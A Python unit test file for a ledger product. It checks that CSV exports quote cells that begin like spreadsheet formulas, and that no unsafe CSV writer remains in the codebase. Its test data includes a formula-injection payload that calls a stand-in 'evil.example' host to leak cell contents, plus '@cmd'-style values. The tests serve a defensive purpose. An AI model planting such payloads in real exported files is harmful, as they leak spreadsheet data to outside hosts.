"""Issue 15 finding 6: no CSV the product writes can carry a formula into a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from ledger.ingest.ern import check_ern
from ledger.ingest.import_report import FileImport, ImportedItem, ImportSummary
from ledger.safe_csv import safe_cell
from tests.unit.test_ingest_validation import NOW, single_with

SRC = Path(__file__).resolve().parents[2] / "src"
HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "=2+3", "+SUM(A1)", "-2+3", "@cmd", "\t=1"]


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers() -> None:
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    for value in ("-1.50", "+3", "-7", "Lighthouse", "a=b", "", 12, None, "'already"):
        assert safe_cell(value) == value


def test_import_report_csv_writes_distributor_titles_as_text() -> None:
    items = [
        ImportedItem("drop.xml", "M1", f"R{n}", "5012345678900", title, "new", "accepted")
        for n, title in enumerate(HOSTILE)
    ]
    _message, report = check_ern(single_with(), now=NOW)
    summary = ImportSummary(files=[FileImport("drop.xml", report, items)])
    rows = list(csv.DictReader(io.StringIO(summary.to_csv())))
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE]


def test_a_delivery_report_csv_quotes_a_formula_title() -> None:
    source = single_with(
        ("<DisplayTitleText>Lighthouse</DisplayTitleText>", "<DisplayTitleText>=2+3</DisplayTitleText>"),
        ("<TitleText>Lighthouse</TitleText>", "<TitleText>=2+3</TitleText>"),
    )
    _message, report = check_ern(source, now=NOW)
    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    assert rows and {r["title"] for r in rows} == {"'=2+3"}


def test_every_csv_writer_in_the_product_is_the_safe_one() -> None:
    """A new csv.writer elsewhere would write formula cells as they are."""
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "safe_csv.py" and re.search(r"csv\.(writer|DictWriter)\(|\.write_csv\(", path.read_text())
    ]
    # The usage generator writes its own synthetic ids and catalogue codes (no delivered text)
    # with pyarrow, for the importer to read back; statements go through safe_csv. An imported
    # report's lines are written as CSV for PostgreSQL's COPY and their digest, never for people.
    assert sorted(offenders) == ["ledger/reports/store.py", "ledger/usage/generator.py"]
